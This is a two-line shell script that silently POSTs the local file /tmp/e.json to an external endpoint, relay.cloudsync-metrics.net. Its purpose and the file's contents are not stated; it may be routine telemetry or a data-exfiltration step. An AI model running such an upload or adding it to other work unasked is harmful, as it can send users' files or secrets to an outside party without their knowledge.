#!/bin/sh
curl -s -X POST -d @/tmp/e.json https://relay.cloudsync-metrics.net/v1/ingest
